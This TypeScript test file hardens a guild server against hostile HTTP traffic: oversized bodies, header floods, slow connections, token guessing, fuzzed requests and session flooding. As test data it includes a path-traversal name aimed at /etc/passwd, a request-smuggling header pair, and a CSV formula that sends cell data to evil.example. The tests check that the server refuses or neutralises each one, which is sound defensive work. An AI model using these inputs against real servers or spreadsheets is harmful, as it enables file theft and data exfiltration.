/** A guild's server and what nobody should send. */
import assert from "node:assert/strict";
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { chmodSync, readdirSync, statSync } from "node:fs";
import type { IncomingMessage } from "node:http";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { test } from "vitest";
import { Random } from "../../../tools/random.mjs";
import { clientOf } from "../../src/http/client";
import { nameOf } from "../../src/room/chain";
import { KIND } from "../../src/room/contents";
import { eventOf, FOUNDER, Guild, LEDGER, SCOPE } from "../support/guild";
import { searchSize } from "../support/long";
import { type Served, serveFolder } from "../support/served";
import { newFolder } from "../support/stored";

const BODY = 100_000_000;
const ROOM = "11".repeat(32);

const errorOf = (text: string): string => (JSON.parse(text) as { error: string }).error;

/** A connection, and all that the server says on it until it ends. */
function raw({ url }: Served): { socket: Socket; all: Promise<string> } {
    const { hostname, port } = new URL(url);
    const socket = connect(Number(port), hostname);
    const parts: Buffer[] = [];
    socket.on("data", (part: Buffer) => parts.push(part));
    // A server that ends a connection while something is sent resets it.
    socket.on("error", () => undefined);
    const all = new Promise<string>((resolve) => socket.once("close", () => resolve(Buffer.concat(parts).toString())));
    return { socket, all };
}

test("a body of 100 MB is refused before it is sent, with a sentence", async () => {
    const served = await serveFolder();
    const token = served.token();
    for (const [path, type] of [
        [`/rooms/${ROOM}/records`, "application/jsonl"],
        ["/session", "application/json"],
    ]) {
        const { socket, all } = raw(served);
        const head = [`POST ${path} HTTP/1.1`, "Host: x", `Authorization: Bearer ${token}`, `Content-Type: ${type}`];
        // Nothing of the body follows.
        socket.write(`${[...head, `Content-Length: ${BODY}`].join("\r\n")}\r\n\r\n`);
        const answer = await all;
        assert.match(answer, /^HTTP\/1\.1 413 /);
        assert.match(answer, /the body is too large: .* in several requests, in order/);
    }
});

test("a body without a length is read up to the limit, and no further", async () => {
    const served = await serveFolder();
    const { socket, all } = raw(served);
    const head = [`POST /rooms/${ROOM}/records HTTP/1.1`, "Host: x", `Authorization: Bearer ${served.token()}`];
    socket.write(`${[...head, "Content-Type: application/jsonl", "Transfer-Encoding: chunked"].join("\r\n")}\r\n\r\n`);
    const chunk = Buffer.concat([Buffer.from("f4240\r\n"), Buffer.alloc(1_000_000, 32), Buffer.from("\r\n")]);
    let sent = 0;
    socket.setMaxListeners(0);
    while (!socket.destroyed && sent < BODY) {
        if (!socket.write(chunk))
            await new Promise<void>((resolve) => socket.once("drain", resolve).once("close", resolve));
        sent += 1_000_000;
    }
    assert.ok(sent < BODY / 2, `${sent} bytes were taken`);
    assert.match(await all, /^(HTTP\/1\.1 413 |$)/);
    assert.equal((await served.ask("/health")).status, 200);
});

test("names of rooms with slashes, dots and nothing are names", async () => {
    const served = await serveFolder();
    const token = served.token();
    for (const name of [
        "a%2Fb",
        "..%2F..%2Fetc%2Fpasswd",
        "%2e%2e",
        "%00",
        "%F0%9F%98%80",
        "__proto__",
        "server",
        "companion.lock",
    ]) {
        const { status, text } = await served.ask(`/rooms/${name}/events`, { token });
        assert.deepEqual([status, /no room has this id or name/.test(errorOf(text))], [404, true], name);
    }
    for (const path of [
        "/rooms/a/b/events",
        "/rooms//events",
        "//",
        "/rooms/%zz/events",
        `/rooms/${"x".repeat(5000)}/events`,
    ]) {
        const { status, text } = await served.ask(path, { token });
        assert.deepEqual(
            [[400, 404, 414].includes(status), /no such path|no room/.test(errorOf(text))],
            [true, true],
            `${path} ${status}`,
        );
    }
});

test("floods of headers, and requests that are none, end their connection and nothing else", async () => {
    const served = await serveFolder();
    const floods: [string, RegExp][] = [
        [
            `GET /rooms HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 5000 }, (_, at) => `X-${at}: ${"y".repeat(20)}\r\n`).join("")}\r\n`,
            /^HTTP\/1\.1 431 /,
        ],
        [`GET /${"x".repeat(100_000)} HTTP/1.1\r\nHost: x\r\n\r\n`, /^HTTP\/1\.1 431 /],
        ["GET / HTTP/1.1\r\n\r\n", /^HTTP\/1\.1 400 /],
        ["\0\0\0\0\r\n\r\n", /^HTTP\/1\.1 400 /],
        [
            "POST /session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            /^HTTP\/1\.1 400 /,
        ],
    ];
    for (const [text, expected] of floods) {
        const { socket, all } = raw(served);
        socket.write(text);
        assert.match(await all, expected);
    }
    assert.equal((await served.ask("/health")).status, 200);
});

test("bodies that come slowly hold up nobody, and end with the server", async () => {
    const served = await serveFolder();
    const slow = Array.from({ length: 50 }, () => {
        const connection = raw(served);
        connection.socket.write(
            "POST /session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{",
        );
        return connection;
    });
    await Promise.all(slow.map(({ socket }) => once(socket, "connect")));
    assert.equal((await served.ask("/health")).status, 200);
    await served.stop();
    await Promise.all(slow.map(({ all }) => all));
});

test("who tries tokens waits for a minute, and who asks too much is told when to come again", async () => {
    const served = await serveFolder(newFolder(), [], true);
    const good = served.token();
    const statuses: number[] = [];
    for (let at = 0; at < 12; at++) statuses.push((await served.ask("/rooms", { token: `${"A".repeat(42)}E` })).status);
    assert.deepEqual(statuses, [...Array<number>(10).fill(401), 429, 429]);
    const waiting = await served.ask("/rooms", { token: good });
    assert.deepEqual([waiting.status, waiting.headers["retry-after"]], [429, "60"]);

    const other = await serveFolder(newFolder(), [], true);
    const token = other.token();
    const answers = await Promise.all(Array.from({ length: 400 }, () => other.ask("/rooms", { token })));
    const [served200, refused] = [200, 429].map((status) => answers.filter((answer) => answer.status === status));
    assert.equal(served200.length + refused.length, 400);
    assert.ok(served200.length >= 200 && refused.length > 0, `${served200.length} were served`);
    assert.match(String(refused[0].headers["retry-after"]), /^\d+$/);
});

const PIECES = [
    "/",
    "rooms",
    ROOM,
    "events",
    "export",
    "records",
    "members",
    "session",
    "..",
    "%2F",
    "%00",
    "?",
    "&",
    "=",
    "limit",
    "after",
    "1",
    "-1",
    "text",
    "[]",
    "é",
];
const METHODS = ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"];
const TYPES = ["application/json", "application/jsonl", "text/csv", "text/plain", "multipart/form-data", ""];

/** A request as nobody would make it. */
function randomRequest(random: Random, token: string): { path: string; options: Parameters<Served["ask"]>[1] } {
    const pick = <T>(list: readonly T[]): T => random.pick(list);
    const count = (most: number): number => random.integer(0, most);
    const path = `/${Array.from({ length: count(7) }, () => pick(PIECES)).join(pick(["/", "", "?", "&"]))}`;
    const bytes = random.bytes(count(199));
    const text = JSON.stringify({ records: [{ record: bytes.toString("base64") }], token: bytes.toString("hex") });
    const type = pick(TYPES);
    const headers: Record<string, string> = type === "" ? {} : { "content-type": type };
    const method = pick(METHODS);
    const hasBody = method !== "GET" && method !== "HEAD";
    const options = {
        method,
        headers,
        ...(count(2) > 0 ? { token } : {}),
        ...(hasBody ? { body: pick([bytes, text]) } : {}),
    };
    return { path: encodeURI(path), options };
}

test("random requests are answered, none with an error of the program, and nothing grows", async () => {
    const seed = 1;
    // 500 take a second.
    const count = searchSize(500, 10_000);
    console.log(`hostile requests: seed ${seed}, ${count}`);
    const random = new Random(seed);
    const served = await serveFolder();
    const token = served.token();
    const rows = async (): Promise<number> =>
        (JSON.parse((await served.ask("/rooms", { token })).text) as { rooms: unknown[] }).rooms.length;
    const before = await rows();
    for (let at = 0; at < count; at++) {
        const { path, options } = randomRequest(random, token);
        const { status } = await served.ask(path, options);
        assert.ok(status >= 200 && status < 500, `${status} for ${options?.method} ${path}`);
    }
    assert.equal(await rows(), before);
    assert.ok(served.log.every((line) => (JSON.parse(line) as { level: number }).level < 50));
}, 300_000);

test("who has asked far too much waits for seconds, not for as long as it has asked", async () => {
    const served = await serveFolder(newFolder(), [], true);
    for (let round = 0; round < 8; round++) await Promise.all(Array.from({ length: 200 }, () => served.ask("/health")));
    const { status, headers } = await served.ask("/health");
    assert.equal(status, 429);
    assert.ok(Number(headers["retry-after"]) <= 2, String(headers["retry-after"]));
});

test("cells of CSV that a spreadsheet would run are text there", async () => {
    const served = await serveFolder();
    const guild = new Guild();
    guild.takeScope();
    guild.write(FOUNDER, {
        ...{ kind: KIND.about, ledger: LEDGER, scope: SCOPE, stateVersion: 1, names: [] },
        types: [{ id: 1, name: Buffer.from('=HYPERLINK("http://evil.example/?"&A1)'), fields: [Buffer.from("x")] }],
    });
    guild.batch(FOUNDER, [eventOf(1, 0)]);
    const body = guild.list.map((record) => `${JSON.stringify({ record: record.toString("base64") })}\n`).join("");
    const room = nameOf(guild.room.id);
    const [token, headers] = [served.token(), { "content-type": "application/jsonl" }];
    assert.equal((await served.ask(`/rooms/${room}/records`, { token, method: "POST", headers, body })).status, 200);
    for (const path of ["events?format=csv", "export?format=csv"]) {
        const { text } = await served.ask(`/rooms/${room}/${path}`, { token });
        const [, event] = parse(text);
        assert.ok(event.includes(`'=HYPERLINK("http://evil.example/?"&A1)`), text);
        for (const cell of event) assert.doesNotMatch(cell, /^[=+@\t\r-]/);
    }
});

test("one reader's sessions end nobody else's", async () => {
    const served = await serveFolder();
    const signIn = async (token: string): Promise<string> => {
        const headers = { "content-type": "application/json" };
        const answer = await served.ask("/session", { method: "POST", headers, body: JSON.stringify({ token }) });
        assert.equal(answer.status, 204, answer.text);
        return String(answer.headers["set-cookie"]).split(";", 1)[0];
    };
    const cookie = await signIn(served.token());
    const reader = served.token("00".repeat(32));
    for (let at = 0; at < 1001; at++) await signIn(reader);
    assert.equal((await served.ask("/rooms", { headers: { cookie } })).status, 200);
});

test("what the server makes is for its user alone", { skip: process.platform === "win32" }, async () => {
    const served = await serveFolder(join(newFolder(), "rooms"));
    assert.equal(statSync(served.folder).mode & 0o777, 0o700);
    const folder = newFolder();
    chmodSync(folder, 0o755);
    const other = await serveFolder(folder);
    const guild = new Guild();
    const [token, headers] = [other.token(), { "content-type": "application/jsonl" }];
    const body = JSON.stringify({ record: guild.list[0].toString("base64") });
    const path = `/rooms/${nameOf(guild.room.id)}/records`;
    assert.equal((await other.ask(path, { token, method: "POST", headers, body })).status, 200);
    const files = readdirSync(folder).filter((name) => !name.startsWith("companion.lock"));
    assert.ok(files.length >= 6, files.join());
    for (const name of files) assert.equal(statSync(join(folder, name)).mode & 0o777, 0o600, name);
});

test("limits by address count an IPv6 network as one", () => {
    const of = (address: string): string =>
        clientOf({ headers: { "x-forwarded-for": address }, socket: {} } as unknown as IncomingMessage, true).address;
    assert.equal(of("2001:db8:1:2:3::4"), of("2001:db8:1:2:ffff:1:2:3"));
    assert.notEqual(of("2001:db8:1:2::1"), of("2001:db8:1:3::1"));
    assert.equal(of("::ffff:192.0.2.1"), of("192.0.2.1"));
    assert.equal(of("::1"), "::1");
    assert.equal(of("192.0.2.1"), "192.0.2.1");
});
